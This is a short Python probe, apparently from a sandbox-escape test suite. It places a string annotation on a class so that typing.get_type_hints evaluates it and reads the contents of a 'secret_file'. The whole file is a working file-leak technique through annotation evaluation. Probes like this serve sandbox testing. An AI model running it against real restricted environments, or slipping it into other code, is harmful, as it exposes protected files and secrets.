# effect: leak
# note: typing evaluates annotations that are text
import typing


class Made:
    pass


def attempt(probe):
    Made.__annotations__ = {"a": f"open({probe['secret_file']!r}).read().split()"}
    try:
        return repr(typing.get_type_hints(Made))
    except Exception as exc:
        return str(exc)
